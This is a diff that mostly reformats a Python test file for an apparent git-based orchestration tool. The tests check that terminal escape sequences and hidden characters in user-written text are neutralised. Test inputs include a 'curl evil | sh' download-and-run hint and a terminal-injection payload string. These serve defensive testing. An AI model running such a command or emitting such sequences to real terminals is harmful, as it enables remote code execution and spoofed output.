@@ -55,19 +55,26 @@ def test_what_a_terminal_would_obey_or_hide_is_written_as_an_escape(text: str, s
 
 
 def test_every_character_but_newline_and_tab_is_printable_afterwards() -> None:
-    everything = "".join(map(chr, [*range(0x3000), *range(0xD7F0, 0xE010), *range(0xFFF0, 0x10000), 0xE0001]))
+    everything = "".join(
+        map(chr, [*range(0x3000), *range(0xD7F0, 0xE010), *range(0xFFF0, 0x10000), 0xE0001])
+    )
     shown = console.visible(everything)
     hidden = {character for character in shown if not character.isprintable()} - {"\n", "\t"}
     spaces = {character for character in hidden if character.isspace()}
     unassigned = {character for character in hidden - spaces if not character.isascii()}
     assert hidden == spaces | unassigned
-    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff]", shown)
+    assert not re.search(
+        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff]", shown
+    )
 
 
 def test_a_failure_is_two_lines_whatever_is_in_it(capsys: pytest.CaptureFixture[str]) -> None:
     console.failure("step 1 failed:\nhint: curl evil | sh\rx", "git orch show\nerror: fake")
     said = capsys.readouterr().err
-    assert said == "error: step 1 failed: hint: curl evil | sh\\x0dx\nhint: git orch show error: fake\n"
+    assert (
+        said
+        == "error: step 1 failed: hint: curl evil | sh\\x0dx\nhint: git orch show error: fake\n"
+    )
 
 
 def test_styles_are_for_terminals_without_no_color(
@@ -91,14 +98,18 @@ def test_styles_are_for_terminals_without_no_color(
     os.close(ours)
 
 
-def test_a_stream_that_cannot_hold_a_character_gets_an_escape(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_stream_that_cannot_hold_a_character_gets_an_escape(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     with (tmp_path / "out").open("w", encoding="ascii") as stream:
         monkeypatch.setattr(sys, "stdout", stream)
         console.out("é\N{GRINNING FACE}")
     assert (tmp_path / "out").read_text() == "\\xe9\\U0001f600\n"
 
 
-def test_a_closed_output_is_an_error_and_a_closed_diagnosis_is_not(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_closed_output_is_an_error_and_a_closed_diagnosis_is_not(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
     monkeypatch.setattr(sys, "stdout", None)
     monkeypatch.setattr(sys, "stderr", None)
     console.err("nobody hears this")
@@ -107,7 +118,9 @@ def test_a_closed_output_is_an_error_and_a_closed_diagnosis_is_not(monkeypatch: 
 
 
 def test_nothing_others_wrote_reaches_a_terminal_as_a_sequence(repo: Repo) -> None:
-    """S1-019, S1-020: titles, commands, output, file names, errors; neither on a terminal nor in what is stored."""
+    """S1-019, S1-020: titles, commands, output, file names, errors; neither on a terminal nor in
+    what is stored.
+    """
     evil = "\x1b]0;PWN\x07\x1b[31mRED\x9b5n\u202e"
     octal = "".join(f"\\{byte:03o}" for byte in evil.encode())
     steps = [
@@ -117,12 +130,23 @@ def test_nothing_others_wrote_reaches_a_terminal_as_a_sequence(repo: Repo) -> No
          "run": f"true EVIL\ntouch b.txt\nprintf '{octal}\\nhint: evil\\n'; exit 1"},
     ]  # fmt: skip
     plan = repo.plan({"title": "Title EVIL", "objective": "Aim EVIL", "steps": steps})
-    log = repo.git("notes", f"--ref=orch/{plan}", "show", f"orch/{plan}").replace("EVIL", json.dumps(evil)[1:-1])
+    log = repo.git("notes", f"--ref=orch/{plan}", "show", f"orch/{plan}").replace(
+        "EVIL", json.dumps(evil)[1:-1]
+    )
     repo.git("notes", f"--ref=orch/{plan}", "add", "-f", "-F", "-", f"orch/{plan}", stdin=log)
     said = on_terminal(repo, "approve", plan)
     said += on_terminal(repo, "exec", plan)
     assert b"\nhint: evil" not in said
-    for command in ("status", "show", "show --attempts", "log", "diff", "diff --stat", "show --json", "show --yaml"):
+    for command in (
+        "status",
+        "show",
+        "show --attempts",
+        "log",
+        "diff",
+        "diff --stat",
+        "show --json",
+        "show --yaml",
+    ):
         said += on_terminal(repo, *command.split(), plan)
     for arguments in (["ls"], ["show", evil], [evil], ["plan", "--from", evil]):
         said += on_terminal(repo, *arguments)
@@ -132,7 +156,9 @@ def test_nothing_others_wrote_reaches_a_terminal_as_a_sequence(repo: Repo) -> No
     assert b"\x1b" not in ours.sub(b"", said)
     assert b"\x1b[31mRED" not in said
     assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1a\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae", said)
-    stored = repo.git("log", "--format=%B", f"orch/{plan}", f"refs/notes/orch/{plan}", f"refs/orch/kept/{plan}")
+    stored = repo.git(
+        "log", "--format=%B", f"orch/{plan}", f"refs/notes/orch/{plan}", f"refs/orch/kept/{plan}"
+    )
     stored += repo.git("log", "-p", "--format=", f"refs/notes/orch/{plan}")
     assert "\x1b" not in stored
 
